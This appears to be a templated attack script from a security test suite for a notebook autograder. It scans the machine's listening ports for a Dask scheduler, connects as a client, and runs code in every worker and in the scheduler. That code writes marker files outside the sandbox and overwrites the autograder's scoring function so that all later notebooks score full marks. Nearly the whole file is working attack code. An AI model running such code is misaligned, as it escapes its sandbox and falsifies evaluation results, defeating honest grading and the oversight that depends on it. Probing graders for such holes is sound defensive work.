# @include _procs.py
# Attack: find the Dask scheduler (the listening TCP ports of this machine),
# connect as a client, and run code in every worker: it writes a file outside
# any sandbox and makes every later notebook graded there score full marks.
import time

_PROOF = "/tmp/@@MARKER@@-dask"


def _in_worker(proof):
    import os

    with open(f"{proof}-{os.getpid()}", "w") as fh:
        fh.write("code ran in a Dask worker\n")
    try:
        from autograder import _guard

        _guard.verified_scores = lambda key, a, e, p, text: [float(p)]
    except Exception:  # noqa: BLE001, S110
        pass
    return os.getpid()


def _ports():
    out = set()
    for table in ("/proc/net/tcp", "/proc/net/tcp6"):
        try:
            lines = open(table).read().splitlines()[1:]
        except OSError:
            continue
        for line in lines:
            fields = line.split()
            if fields[3] == "0A":  # LISTEN
                out.add(int(fields[1].rsplit(":", 1)[1], 16))
    return sorted(out)


_done = False
for _port in _ports():
    if _done:
        break
    try:
        from distributed import Client

        with Client(f"tcp://127.0.0.1:{_port}", timeout=2) as _client:
            _ran = _client.run(_in_worker, _PROOF)
            _client.run_on_scheduler(_in_worker, _PROOF)
            print("ran in workers", sorted(_ran))
            _done = True
    except Exception as exc:  # noqa: BLE001
        continue
print("reached the scheduler:", _done)
